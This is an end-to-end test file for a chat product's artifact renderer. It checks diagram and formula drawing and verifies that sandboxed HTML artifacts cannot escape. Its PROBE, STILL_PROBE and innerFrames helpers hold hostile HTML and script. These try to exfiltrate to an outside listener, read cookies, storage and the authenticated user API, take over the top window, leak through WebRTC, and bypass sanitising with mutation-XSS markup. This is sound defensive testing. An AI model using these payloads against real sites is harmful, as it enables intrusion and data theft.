import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:net';
import type { Frame, Locator, Page } from 'playwright-core';
import { afterAll, expect, it, vi } from 'vitest';
import { listenOn, serve } from '../../backend/src/http/serve.fixture.ts';
import { HOLD, startEchoProvider } from './echo-provider.ts';
import { ownProduct } from './open-product.ts';
import { WIDE } from './product.ts';
import { shot } from './shot.ts';
import {
  ask,
  barriers,
  button,
  checkScreen,
  completes,
  composer,
  isFocused,
  lastReply,
  send,
} from './steps.ts';

const fence = (language: string, code: string) => `\`\`\`${language}\n${code}\n\`\`\``;

const EVERYTHING = [
  'Since $a^2 + b^2 = c^2$, for $5 to $10:',
  '$$\nx = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a}\n$$',
  fence('mermaid', 'flowchart LR\n  A[Ask] --> B[Answer]'),
  '| a | b |\n|---|---|\n| 1 | 2 |',
  '- [x] done',
  fence('ts', `const long = '${'x'.repeat(300)}';\n// end`),
  fence('mermaid', 'flowchart LR\n  A[[[ broken'),
].join('\n\n');

const [provider, outside] = await Promise.all([startEchoProvider(), listenOutside()]);
afterAll(() => {
  provider.stop();
  outside.stop();
});
const { url, browser, guest } = await ownProduct(provider.settings);
/** Another host: notes what is sent to it, by TCP and by UDP. */
async function listenOutside() {
  const contacts: string[] = [];
  const tcp = createServer((socket) => {
    // A browser may connect before it refuses to navigate; what counts is whether anything is sent.
    socket.on('data', () => contacts.push('TCP')).on('error', () => undefined);
  });
  const udp = createSocket('udp4').on('message', () => {
    contacts.push('UDP');
  });
  udp.bind(0, '127.0.0.1');
  const [port] = await Promise.all([listenOn(tcp), once(udp, 'listening')]);
  return {
    host: `127.0.0.1:${port}`,
    stun: `stun:127.0.0.1:${udp.address().port}`,
    /** What was recorded since the last call. */
    contacts: () => contacts.splice(0),
    stop: () => {
      tcp.close();
      udp.close();
    },
  };
}

/** Opens the last artifact of the page. */
const open = (page: Page) => button(page, 'Open').last().click();

const runButton = (page: Page) => button(page, 'Run');

async function openAndRun(page: Page): Promise<void> {
  await open(page);
  await runButton(page).click();
}

/** The frame of the open artifact, or of another artifact. */
async function frameOf(page: Page, frame = '[data-artifact] iframe'): Promise<Frame> {
  const element = await page.locator(frame).last().elementHandle();
  const found = await element?.contentFrame();
  expect(found).toBeTruthy();
  return found!;
}

/** The button that covers the picture opens it. */
const openByPicture = (card: Locator) => card.locator('.md-preview').click({ force: true });

/** The picture of the last artifact in the thread. */
const picture = (page: Page) => lastReply(page).locator('.md-preview').last();

it('formulas, diagrams, tables and code are drawn under the policy, and axe finds nothing', async () => {
  for (const width of [1440, 390]) {
    const { visitor, page } = await guest({ viewport: { width, height: 900 } });
    await ask(page, EVERYTHING);
    await page.getByText('This diagram cannot be drawn.').waitFor();
    const diagram = await frameOf(page, '.md-diagram iframe');
    await diagram.waitForSelector('svg');
    await expect.poll(() => page.locator('.katex math').count()).toBe(2);
    await expect.poll(() => page.getByText('for $5 to $10').last().isVisible()).toBe(true);
    await checkScreen(page, 'formulas');
    expect(visitor.errors).toEqual([]);
  }
});

const BROAD = fence(
  'mermaid',
  `flowchart LR\n${Array.from({ length: 14 }, (_, n) => `  S${n}[Station ${n}] --> S${n + 1}[Station ${n + 1}]`).join('\n')}`,
);
const TALL = fence(
  'mermaid',
  `sequenceDiagram\n${Array.from({ length: 24 }, (_, n) => `  Reader->>Archive: Question ${n}`).join('\n')}`,
);
const GANTT = fence(
  'mermaid',
  'gantt\n  title Nights\n  dateFormat YYYY-MM-DD\n  section Owls\n  Count :a1, 2026-01-01, 30d\n  Report :after a1, 20d',
);

const diagrams = (page: Page) => page.locator('.md-diagram');

/** The size on screen of the smallest text of a drawing. */
const textHeight = async (frame: Frame): Promise<number> => {
  const svg = await frame.waitForSelector('svg');
  return svg.evaluate((drawing) => {
    const scale = (drawing as unknown as SVGSVGElement).getScreenCTM()?.a ?? 0;
    const texts = [...drawing.querySelectorAll('*')].filter(
      (it) =>
        !it.matches('style, title, desc') &&
        [...it.childNodes].some((node) => node.nodeType === 3 && node.textContent?.trim()),
    );
    const sizes = texts.map((it) => Number.parseFloat(getComputedStyle(it).fontSize));
    return sizes.length > 0 ? Math.min(...sizes) * scale : 0;
  });
};

it('the text of a diagram is at least 12 px high, beside the chat too, and what is too wide scrolls', async () => {
  for (const width of [1440, 390]) {
    const { visitor, page } = await guest({ viewport: { width, height: 900 } });
    await ask(page, [BROAD, TALL, GANTT].join('\n\n'));
    for (let n = 0; n < 3; n += 1) {
      const box = diagrams(page).nth(n);
      await box.scrollIntoViewIfNeeded();
      const element = await box.locator('iframe').elementHandle();
      const frame = await element.contentFrame();
      await expect.poll(() => textHeight(frame!)).toBeGreaterThan(11.9);
      await shot(page, `diagram-${n}`);
    }
    const sizes = await diagrams(page).evaluateAll((all) =>
      all.map((it) => it.scrollWidth - it.clientWidth),
    );
    expect(sizes[0]).toBeGreaterThan(100);
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(width);
    await diagrams(page).first().locator('xpath=..').getByRole('button', { name: 'Open' }).click();
    const panel = page.locator('.md-diagram[data-fill] iframe');
    const frame = await (await panel.elementHandle()).contentFrame();
    await expect.poll(() => textHeight(frame!)).toBeGreaterThan(11.9);
    await checkScreen(page, 'diagram-panel');
    expect(visitor.errors).toEqual([]);
  }
});

const FAR_APART = `\n\n${Array.from({ length: 60 }, (_, n) => `Paragraph ${n} of a long night.`).join('\n\n')}\n\n`;

it.each(['dark', 'light'] as const)(
  'Print draws every diagram in light colours from the %s theme, and prints the code of one that cannot be drawn',
  async (colorScheme) => {
    const { visitor, page } = await guest({ colorScheme, reducedMotion: 'reduce' });
    const broken = fence('mermaid', 'flowchart LR\n  A[[[ broken');
    const table = '| a | b |\n|---|---|\n| 1 | 2 |';
    const parts = [GANTT, BROAD, broken, TALL, fence('ts', 'const owl = true;'), table];
    await ask(page, parts.join(FAR_APART));
    await page.reload();
    await lastReply(page).waitFor();
    const shown = page.locator('[data-messages] .md-diagram[data-drawn]');
    await expect.poll(() => shown.count()).toBeLessThan(3);
    // In a browser with a window, `print` returns when its dialog is closed.
    await page.evaluate(() => {
      window.print = () => {
        const all = [...document.querySelectorAll<HTMLElement>('[data-messages] .md-diagram')];
        document.body.dataset.printed = all.map(({ dataset }) => dataset.drawn).join(' ');
      };
    });
    await page.keyboard.press('Control+p');
    const printed = () => page.evaluate(() => document.body.dataset.printed);
    await expect.poll(printed).toBe('light light light');
    await page.getByText('This diagram cannot be drawn.').waitFor({ state: 'attached' });
    await expect
      .poll(() => page.locator(`[data-messages] .md-diagram[data-drawn=${colorScheme}]`).count())
      .toBe(await shown.count());
    expect(visitor.errors).toEqual([]);
  },
);

const SUN = '<svg viewBox="0 0 40 40"><circle cx="20" cy="20" r="9" stroke="#e0b050"/></svg>';
const STYLED = `<!doctype html><title>Night sky</title><style>body{background:#123;color:#fff;font:2rem serif}</style><h1>Owls over ${'the harbour '.repeat(3)}</h1><p>They fly without a sound.</p>`;

it.each([
  ['dark', 1440],
  ['light', 390],
] as const)('artifacts are cards with a picture: %s, %i px', async (colorScheme, width) => {
  const { visitor, page } = await guest({ colorScheme, viewport: { width, height: 900 } });
  const parts = ['A page:', fence('html', STYLED), '## The sun', fence('xml', SUN)];
  await ask(page, [...parts, 'A link:', fence('html', '<a href="#">Up</a>')].join('\n\n'));
  const cards = lastReply(page).getByRole('figure');
  await expect.poll(() => cards.nth(0).textContent()).toContain('Night skyWeb page');
  await expect.poll(() => cards.nth(1).textContent()).toContain('The sunSVG');
  await cards.nth(2).getByText('<a href="#">Up</a>').waitFor();
  expect(await cards.nth(0).locator('pre').isVisible()).toBe(false);
  await expect
    .poll(async () => (await frameOf(page, '[data-kind=html] iframe')).childFrames().length)
    .toBe(1);
  await checkScreen(page, 'artifact-cards');
  await cards.nth(1).getByRole('button', { name: 'Show code' }).click();
  await cards.nth(1).locator('pre').waitFor();
  await openByPicture(cards.nth(0));
  await expect.poll(() => page.url()).toContain('artifact=');
  await expect.poll(() => stillText(page)).toContain('They fly');
  await checkScreen(page, 'artifact-open');
  expect(visitor.errors).toEqual([]);
});

it('a drawing stands on the ground of the theme, and on a light one if it is drawn in dark ink', async () => {
  const { page } = await guest({ colorScheme: 'dark' });
  const ground = () =>
    picture(page)
      .locator('iframe')
      .evaluate((it) => getComputedStyle(it).backgroundColor);
  await ask(page, fence('svg', SUN));
  const light = await ground();
  await ask(page, fence('svg', SUN.replace('<circle', '<circle fill="#111"')));
  expect(await ground()).not.toBe(light);
  await page.emulateMedia({ colorScheme: 'light' });
  await expect.poll(ground).not.toBe(light);
});

const panelOf = (page: Page) => page.getByRole('complementary', { name: 'Artifact' });
const LONG_PAGE = fence(
  'html',
  `<!doctype html><h1>Clock</h1>${'<p>tick</p>\n'.repeat(40)}${HOLD}<p>end</p>`,
);

it('opens by itself while it is written, once, and not again when it was closed', async () => {
  const release = provider.hold();
  const { page } = await guest(WIDE);
  await send(page, LONG_PAGE);
  const panel = panelOf(page);
  await panel.getByText('<p>tick</p>').first().waitFor();
  expect(await panel.getByRole('tab', { name: 'Code' }).getAttribute('aria-selected')).toBe('true');
  const box = composer(page);
  expect(await isFocused(box)).toBe(true);
  await shot(page, 'artifact-written');
  await panel.getByRole('button', { name: 'Close' }).click();
  await panel.waitFor({ state: 'detached' });
  expect(await isFocused(box)).toBe(true);
  await page.reload();
  await lastReply(page).getByRole('figure').waitFor();
  release();
  await completes(page);
  await picture(page).locator('iframe').waitFor();
  expect(await panel.count()).toBe(0);
});

it('shows its preview when it is written', async () => {
  const release = provider.hold();
  const { page } = await guest(WIDE);
  await send(page, LONG_PAGE);
  await panelOf(page).getByText('<p>tick</p>').first().waitFor();
  release();
  await expect.poll(() => stillText(page)).toMatch(/tick\s*end$/);
});

it('does not open by itself on a narrow screen', async () => {
  const release = provider.hold();
  const { page } = await guest({ viewport: { width: 390, height: 800 } });
  await send(page, LONG_PAGE);
  await lastReply(page).getByText('<p>tick</p>').first().waitFor();
  await button(lastReply(page), 'Open').waitFor();
  release();
  await completes(page);
  expect(page.url()).not.toContain('artifact=');
});

it('fills the screen, where Escape leaves with the focus kept and the artifact running', async () => {
  const { page } = await guest(WIDE);
  await ask(page, fence('html', COUNTER));
  await openAndRun(page);
  await (await frameOf(page)).click('button');
  const panel = panelOf(page);
  await panel.getByRole('button', { name: 'Full screen' }).click();
  await expect.poll(async () => (await panel.boundingBox())?.width).toBe(1440);
  const toggle = panel.getByRole('button', { name: 'Leave full screen' });
  expect(await isFocused(toggle)).toBe(true);
  expect(
    await page
      .getByPlaceholder('Message STOLAS...')
      .evaluate((it) => it.closest('[inert]') !== null),
  ).toBe(true);
  expect(await barriers(page)).toEqual([]);
  await page.keyboard.press('Escape');
  await expect.poll(async () => (await panel.boundingBox())?.width).toBeLessThan(900);
  expect(await isFocused(panel.getByRole('button', { name: 'Full screen' }))).toBe(true);
  expect(await (await frameOf(page)).textContent('#out')).toBe('3');
  await page.keyboard.press('Escape');
  await panel.waitFor({ state: 'detached' });
});

it('an artifact opens beside the chat, has versions, and Back closes it', async () => {
  const { page } = await guest();
  await ask(page, fence('html', '<h1>Clock</h1><p>one</p>'));
  await ask(page, fence('html', '<h1>Clock</h1><p>two</p>'));
  // On a slow machine one opens by itself while it is written, and Back would lead to it. After a reload none does.
  const address = new URL(page.url());
  address.searchParams.delete('artifact');
  await page.goto(address.href);
  await open(page);
  const shown = (text: string) => expect.poll(() => stillText(page)).toBe(`Clock${text}`);
  await shown('two');
  expect(await runButton(page).count()).toBe(0);
  const panel = panelOf(page);
  await panel.getByText('2/2').waitFor();
  await panel.getByRole('button', { name: 'Earlier version' }).click();
  await shown('one');
  await checkScreen(page, 'artifact');
  await page.reload();
  await shown('one');
  await panel.getByRole('tab', { name: 'Code' }).click();
  await panel.getByRole('figure', { name: 'Code, HTML' }).waitFor();
  await shot(page, 'artifact-code');
  await page.goBack();
  await expect.poll(() => panel.count()).toBe(0);
});

/** What the artifact shows before it is run. Its frame may be replaced while it is read: then it is read again. */
const stillText = async (page: Page) =>
  (await frameOf(page)).childFrames()[0]?.locator('body').textContent({ timeout: 5_000 });

const COUNTER = `<!doctype html><h1>Counter</h1>
<script>let count = 1; const show = () => { out.textContent = count; };
document.addEventListener('DOMContentLoaded', show); document.write('<p id="out">0</p>')</script>
<div id="box"></div><script type="application/json" id="step">{"by": 2}</script>
<script type="module">box.innerHTML = '<button onclick="count += JSON.parse(step.textContent).by; show()">Add</button>'</script>`;

it('an artifact runs by a click, as its author wrote it, and only that version until it is closed', async () => {
  const { page } = await guest();
  await ask(page, fence('html', COUNTER));
  await ask(page, fence('html', COUNTER.replace('count = 1', 'count = 5')));
  await open(page);
  const isStill = async () => {
    await runButton(page).waitFor();
    await expect.poll(() => stillText(page)).toMatch(/^Counter\s*$/);
  };
  const counts = async (number: string) => {
    const frame = await frameOf(page);
    await expect.poll(() => frame.textContent('#out')).toBe(number);
  };
  await isStill();
  expect(await barriers(page)).toEqual([]);
  await runButton(page).click();
  await counts('5');
  await (await frameOf(page)).click('button');
  await counts('7');
  const panel = panelOf(page);
  await panel.getByRole('button', { name: 'Earlier version' }).click();
  await isStill();
  await panel.getByRole('button', { name: 'Later version' }).click();
  await counts('5');
  await page.reload();
  await isStill();
});

/** Waits until an artifact is shown, and checks that nothing of it has run or reached anything. */
async function expectStill(frame: () => Promise<Frame>): Promise<void> {
  const inner = async () => (await frame()).childFrames()[0];
  await expect.poll(async () => (await inner())?.locator('body').textContent()).toContain('Probe');
  const still = (await inner())!;
  await still.waitForLoadState('load');
  expect(await still.locator('link, script, iframe, meta[http-equiv]').count()).toBe(0);
  expect(await still.locator('body').getAttribute('data-tried')).toBe(null);
  expect(still.childFrames()).toEqual([]);
  expect(outside.contacts()).toEqual([]);
}

it('a hostile artifact does nothing before it is run: in its reply, beside the chat and in a tab', async () => {
  const { visitor, page } = await guest();
  const form = `<form action="http://${outside.host}/w" method="post"><button autofocus>Send</button></form>`;
  await ask(page, fence('html', `${PROBE(outside)}${form}${STILL_PROBE(outside)}`));
  // The picture is replaced while its code is still written.
  await vi.waitFor(() => picture(page).scrollIntoViewIfNeeded(), { timeout: 120_000 });
  await expectStill(() => frameOf(page, '.md-preview iframe'));
  const thumb = await frameOf(page, '.md-preview iframe');
  expect(await page.evaluate(() => document.activeElement?.tagName)).not.toBe('IFRAME');
  await openByPicture(lastReply(page));
  await expectStill(() => frameOf(page));
  expect(await thumb.evaluate(() => document.activeElement?.tagName)).toBe('BODY');
  await (await frameOf(page)).childFrames()[0]!.getByRole('button', { name: 'Send' }).click();
  const tab = await openTab(page);
  await expectStill(() => frameOf(tab));
  await (await frameOf(tab)).childFrames()[0]!.getByRole('button', { name: 'Send' }).click();
  await expect.poll(() => visitor.errors.join('\n')).toMatch(/frame is sandboxed|form/);
  expect(outside.contacts()).toEqual([]);
});

/** Waits until an artifact that runs has tried everything. */
async function expectNothingReached(page: Page): Promise<void> {
  const tried = async () =>
    (await frameOf(page)).evaluate(() => document.body?.dataset['tried'] ?? '');
  await expect.poll(tried).toBe('all');
  expect(await (await frameOf(page)).evaluate('window.reached')).toEqual([]);
}

const FRAME = readFileSync(new URL('../public/frames/artifact.html', import.meta.url), 'utf8');
const CHAT = `<iframe src="/frame"></iframe><script>
onmessage = ({ source }) => source.postMessage({ html: '<p>They fly</p>' }, '*');
</script>`;

it('the frame shows an artifact that arrives before the frame is parsed to its end', async () => {
  const [begin = ''] = FRAME.split('</script>');
  // The rest never arrives.
  const { url: chat, stop } = await serve((request, response) => {
    response.setHeader('content-type', 'text/html');
    if (request.url === '/frame') response.write(`${begin}</script>`);
    else response.end(CHAT);
  });
  const page = await browser.newPage();
  await page.goto(chat, { waitUntil: 'commit' });
  const inner = () => page.frames().find((frame) => frame.url() === 'about:srcdoc');
  await expect.poll(() => inner()?.textContent('body')).toBe('They fly');
  await page.close();
  stop();
});

async function openTab(page: Page): Promise<Page> {
  const opened = page.waitForEvent('popup');
  await page.getByRole('link', { name: 'Open in a tab' }).click();
  return opened;
}

it('a hostile artifact in a tab is run by a click there, and reaches nothing then either', async () => {
  const { page } = await guest();
  await ask(page, fence('html', PROBE(outside)));
  await openAndRun(page);
  const tab = await openTab(page);
  await expectStill(() => frameOf(tab));
  expect(await tab.evaluate(() => window.opener)).toBe(null);
  expect(await barriers(tab)).toEqual([]);
  await runButton(tab).click();
  await expectNothingReached(tab);
  expect(await (await frameOf(tab)).evaluate(() => self.origin)).toBe('null');
  expect(await tab.title()).toBe('Probe · STOLAS');
  await tab.reload();
  await runButton(tab).waitFor();
  expect(outside.contacts()).toEqual([]);
});

it('a hostile artifact that runs reaches no cookie, no storage, no other page and no other host', async () => {
  const { visitor, page } = await guest();
  const requests: string[] = [];
  page.on('requestfinished', (request) => requests.push(request.url()));
  await ask(page, fence('html', PROBE(outside)));
  await openAndRun(page);
  await expectNothingReached(page);
  expect(await page.title()).not.toBe('taken over');
  expect(visitor.context.pages()).toHaveLength(1);
  expect(requests.filter((url) => url.includes(outside.host))).toEqual([]);
  expect(outside.contacts()).toEqual([]);
});

it('no frame inside an artifact that runs has calls', async () => {
  const { page } = await guest();
  const shell = await (await fetch(new URL('/frames/artifact.html', url))).text();
  const script = /<script>([^]*?)<\/script>/.exec(shell)?.[1] ?? '';
  await ask(page, fence('html', innerFrames(outside, script)));
  await openAndRun(page);
  await expectNothingReached(page);
  expect(outside.contacts()).toEqual([]);
});

it.each([
  ['a refresh', (host: string) => `<meta http-equiv="refresh" content="0;url=http://${host}/">`],
  ['a script', (host: string) => `<script>location.href = 'http://${host}/'</script>`],
  [
    'a form',
    (host: string) =>
      `<form action="http://${host}/" method="post"></form><script>document.forms[0].submit()</script>`,
  ],
])('%s of an artifact leads to no other host', async (_name, html) => {
  const { visitor, page } = await guest();
  await ask(page, fence('html', `<h1>Leaves</h1><script></script>${html(outside.host)}`));
  const address = page.url();
  await openAndRun(page);
  // The browser logs what it refused.
  await expect
    .poll(() => visitor.errors.join('\n'))
    .toMatch(/Content Security Policy|frame is sandboxed/);
  expect(new URL(page.url()).host).toBe(new URL(address).host);
  expect(outside.contacts()).toEqual([]);
});

/** A page that tries every forbidden access; `window.reached` names what succeeded. */
const PROBE = ({ host, stun }: { host: string; stun: string }) => `<h1>Probe</h1>
<link rel="prefetch" href="http://${host}/prefetch"><link rel="preload" as="image" href="http://${host}/preload">
<link rel="dns-prefetch" href="//${host}"><link rel="stylesheet" href="http://${host}/a.css">
<style>@import url(http://${host}/b.css); body { background: url(http://${host}/c.png) }</style>
<img src="http://${host}/d.png"><iframe src="http://${host}/e"></iframe><object data="http://${host}/f"></object>
<video src="http://${host}/g"></video><script src="http://${host}/h.js"></script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://${host}/i"]}]}</script>
<script>
const reached = (window.reached = []);
const attempt = async (name, work) => {
  try { if (await work()) reached.push(name); } catch {}
};
const answers = (promise) => Promise.race([promise.then(() => true), new Promise((end) => setTimeout(end, 1000, false))]);
(async () => {
  await attempt('cookie', () => document.cookie);
  await attempt('storage', () => localStorage);
  await attempt('session storage', () => sessionStorage);
  await attempt('database', () => answers(new Promise((yes, no) => { const it = indexedDB.open('x'); it.onsuccess = yes; it.onerror = no; })));
  await attempt('parent', () => parent.document.body);
  await attempt('top', () => { top.document.title = 'taken over'; return true; });
  await attempt('opened window', () => window.open('http://${host}/j'));
  await attempt('top navigation', () => { top.location = 'http://${host}/k'; });
  await attempt('fetch', () => answers(fetch('http://${host}/l', { mode: 'no-cors' })));
  await attempt('own api', () => answers(fetch('/api/auth/user', { credentials: 'include' })));
  await attempt('beacon', () => { navigator.sendBeacon('http://${host}/m', 'x'); });
  await attempt('socket', () => answers(new Promise((yes, no) => { const it = new WebSocket('ws://${host}/n'); it.onopen = yes; it.onerror = no; })));
  await attempt('events', () => { new EventSource('http://${host}/o'); });
  await attempt('worker', () => { new Worker(URL.createObjectURL(new Blob(['fetch("http://${host}/p")']))); });
  await attempt('import', () => answers(import('http://${host}/import.js')));
  await attempt('added script', () => answers(new Promise((yes, no) => { document.head.append(Object.assign(document.createElement('script'), { src: 'http://${host}/added.js', onload: yes, onerror: no })); })));
  await attempt('worklet', () => answers(CSS.paintWorklet.addModule('http://${host}/worklet.js')));
  await attempt('transport', () => answers(new WebTransport('https://${host}/').ready));
  await attempt('later', () => { fetchLater('http://${host}/later', { activateAfter: 0 }); });
  await attempt('payment', () => answers(new PaymentRequest([{ supportedMethods: 'http://${host}/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()));
  await attempt('ping', () => { const a = document.createElement('a'); a.href = '#'; a.ping = 'http://${host}/q'; a.click(); });
  await attempt('calls', async () => {
    const call = new RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] });
    call.createDataChannel('x');
    await call.setLocalDescription(await call.createOffer());
    return true;
  });
  await new Promise((end) => setTimeout(end, 2000));
  document.body.dataset.tried = 'all';
})();
</script>`;

/** The part that needs no script. */
const STILL_PROBE = ({
  host,
}: {
  host: string;
}) => `<meta http-equiv="refresh" content="0;url=http://${host}/r">
<body onload="location = 'http://${host}/s'"><svg onload="location = 'http://${host}/t'"><script>location = 'http://${host}/u'</script></svg>
<img src="x" onerror="location = 'http://${host}/v'"><link rel="preconnect" href="http://${host}">
<template shadowrootmode="open"><link rel="preconnect" href="http://${host}"></template>
<math><mtext><table><mglyph><style><!--</style><link rel="preconnect" href="http://${host}">--></style></table></mtext></math>
<svg></p><style><a id="</style><link rel=preconnect href=http://${host}>"></a></style></svg>`;

/**
 * A page that tries to get a frame with WebRTC; `window.reached` names the ways that led to one.
 * @param script of the page that shows artifacts, which its policy admits in inner frames too
 */
const innerFrames = (
  { stun }: { stun: string },
  script: string,
) => `<h1>Frames</h1><div id="written"></div>
<script>
const reached = (window.reached = []);
const CALL = 'const call = new RTCPeerConnection({ iceServers: [{ urls: "${stun}" }] }); call.createDataChannel("x"); call.createOffer().then((offer) => call.setLocalDescription(offer));';
const tag = (name, text) => '<' + name + '>' + text + '</' + name + '>';
const code = (way) => CALL + 'parent.postMessage("' + way + '", "*");';
const inner = (way) => tag('script', code(way)).replaceAll('"', '&quot;');
const markup = (way) => '<iframe srcdoc="' + inner(way) + '"></iframe>';
const rooted = (way) => '<div><template shadow' + 'rootmode="open">' + markup(way) + '</template></div>';
const frame = (way) => { const it = document.createElement('iframe'); it.srcdoc = tag('script', code(way)); return it; };
const add = (name, set) => { const it = document.createElement(name); Object.assign(it, set); document.body.append(it); return it; };
const page = (way) => URL.createObjectURL(new Blob([tag('script', code(way))], { type: 'text/html' }));
addEventListener('message', ({ source, data }) => {
  if (data?.type !== 'ready') return reached.push(data);
  source.postMessage({ html: tag('script', code('own script')), run: true }, '*');
});
document.write(rooted('written root') + markup('written frame'));
const ways = {
  'frame': () => document.body.append(frame('frame')),
  'false length': () => { Object.defineProperty(NodeList.prototype, 'length', { get: () => 0 }); document.body.append(frame('false length')); },
  'cloned root': () => { const host = document.createElement('p'); host.attachShadow({ mode: 'open', clonable: true }).append(frame('cloned root')); document.body.append(host.cloneNode(true)); },
  'closed root': () => add('p').attachShadow({ mode: 'closed' }).append(frame('closed root')),
  'unsafe html': () => add('p').setHTMLUnsafe(rooted('unsafe html')),
  'unsafe page': () => document.body.append(...Document.parseHTMLUnsafe(rooted('unsafe page')).body.children),
  'markup': () => add('p').insertAdjacentHTML('beforeend', markup('markup')),
  'fragment': () => document.body.append(document.createRange().createContextualFragment(markup('fragment'))),
  'template': () => document.body.append(add('template', { innerHTML: markup('template') }).content.cloneNode(true)),
  'object': () => add('object', { type: 'text/html', data: page('object') }),
  'embed': () => add('embed', { type: 'text/html', src: page('embed') }),
  'old frame': () => add('frameset').append(Object.assign(document.createElement('frame'), { src: page('old frame') })),
  'script address': () => add('iframe', { src: 'javascript:' + code('script address') }),
  'data address': () => add('iframe', { src: 'data:text/html,' + tag('script', code('data address')) }),
  'drawing': () => add('iframe', { src: 'data:image/svg+xml,' + '<svg xmlns="http://www.w3.org/2000/svg">' + tag('script', code('drawing')) + '</svg>' }),
  'own script': () => add('iframe', { srcdoc: '<img name="RTCPeerConnection">' + tag('script', ${JSON.stringify(script).replaceAll('<', '\\u003c')}) }),
  'empty frame': () => add('iframe').contentWindow.RTCPeerConnection && reached.push('empty frame'),
  'window by number': () => { add('iframe'); for (let i = 0; i < frames.length; i += 1) try { if (frames[i].RTCPeerConnection) reached.push('window by number'); } catch {} },
  'empty address': () => { const it = add('iframe'); it.onload = () => { try { if (it.contentWindow.RTCPeerConnection) reached.push('empty address'); } catch {} }; it.src = 'about:blank'; },
  'nested root': () => add('p').setHTMLUnsafe('<p><template shadow' + 'rootmode="closed">' + rooted('nested root') + '</template></p>'),
  'drawn frame': () => { document.body.insertAdjacentHTML('beforeend', '<svg><foreignObject width="9" height="9">' + markup('drawn frame') + '</foreignObject></svg>'); },
  'imported module': () => import(URL.createObjectURL(new Blob(['const it = document.createElement("iframe"); it.srcdoc = ' + JSON.stringify(tag('script', code('imported module'))) + '; document.body.append(it); try { if (it.contentWindow.RTCPeerConnection) parent.postMessage("x", "*"); } catch {}'], { type: 'text/javascript' }))),
  'opened again': () => { const it = add('iframe'); it.contentDocument.open(); it.contentDocument.write(tag('script', code('opened again'))); },
  'named window': () => { add('iframe', { name: 'inside' }); open('javascript:' + code('named window'), 'inside'); },
  'moved script': () => { const it = add('iframe', { srcdoc: '<p>' }); it.onload = () => { const moved = document.createElement('script'); moved.textContent = code('moved script'); it.contentDocument.body.append(moved); }; },
  'XML': () => add('iframe', { src: 'data:text/xml,' + encodeURIComponent('<r><script xmlns="http://www.w3.org/1999/xhtml">' + code('XML') + '</' + 'script></r>') }),
  'own page': () => add('iframe', { src: '/frames/artifact.html' }),
  'worker': () => { new Worker(URL.createObjectURL(new Blob([CALL]))).onmessage = () => reached.push('worker'); },
};
for (const way of Object.values(ways)) try { way(); } catch {}
setTimeout(() => { document.body.dataset.tried = 'all'; }, 3000);
</script>`;
